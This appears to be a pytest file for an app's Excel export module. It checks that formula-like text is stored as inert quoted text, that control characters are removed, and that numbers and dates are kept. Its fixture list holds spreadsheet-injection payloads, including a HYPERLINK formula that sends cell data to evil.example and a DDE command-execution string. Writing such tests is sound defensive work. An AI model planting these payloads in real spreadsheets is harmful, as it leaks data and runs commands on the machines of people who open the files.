"""The one .xlsx writer (core.xlsx): control characters removed, formula-like text stored as text (issue 9,
findings 5 and 6); numbers, dates and ordinary text unchanged."""

from datetime import date
from decimal import Decimal
from io import BytesIO

from openpyxl import load_workbook

from core.xlsx import xlsx_bytes, xlsx_response

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&B2,"点击")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def read(content):
    return load_workbook(BytesIO(content)).active


def test_formula_like_text_is_written_as_quoted_text():
    sheet = read(xlsx_bytes(headers=["=header", "plain"], rows=[[value, "ok"] for value in FORMULAS]))
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [sheet.cell(row=i + 2, column=1).value for i in range(len(FORMULAS))] == FORMULAS  # the text, unchanged
    for i in range(len(FORMULAS)):
        cell = sheet.cell(row=i + 2, column=1)
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
    assert sheet["A1"].value == "=header" and sheet["A1"].data_type == "s"
    assert sheet["B2"].value == "ok" and not sheet["B2"].quotePrefix


def test_illegal_control_characters_are_removed():
    sheet = read(
        xlsx_bytes(headers=["name\x00"], rows=[["王\u0007芳\x1b", "tab\tand\nnewline"]], sheet_title="人员\x07")
    )
    assert sheet.title == "人员"
    assert sheet["A1"].value == "name"
    assert sheet["A2"].value == "王芳"
    assert sheet["B2"].value == "tab\tand\nnewline"  # tab and newline are legal in XML and kept


def test_numbers_and_dates_stay_what_they_are():
    sheet = read(
        xlsx_bytes(headers=["a", "b", "c", "d", "e"], rows=[[-3, -2.5, Decimal("-1.25"), date(2026, 1, 2), None]])
    )
    assert sheet["A2"].value == -3 and sheet["A2"].data_type == "n" and not sheet["A2"].quotePrefix
    assert sheet["B2"].value == -2.5 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value == -1.25 and sheet["C2"].data_type == "n"
    assert sheet["D2"].value.date() == date(2026, 1, 2)
    assert sheet["E2"].value is None


def test_response_is_an_attachment():
    response = xlsx_response(filename="台账.xlsx", headers=["x"], rows=[["=1+1"]])
    assert response["Content-Disposition"].startswith("attachment; filename*=UTF-8''")
    assert read(response.content)["A2"].data_type == "s"


def test_every_workbook_the_app_writes_goes_through_core_xlsx():
    """One writer for every ledger: no other module builds an openpyxl Workbook (exports, samples, templates)."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent.parent
    skip = {".venv", "tests", "staticfiles", "node_modules"}
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not skip & set(path.relative_to(root).parts)
        and path.relative_to(root).as_posix() != "core/xlsx.py"
        and ("Workbook(" in path.read_text(encoding="utf-8") or "WriteOnlyCell" in path.read_text(encoding="utf-8"))
    ]
    assert not writers, writers
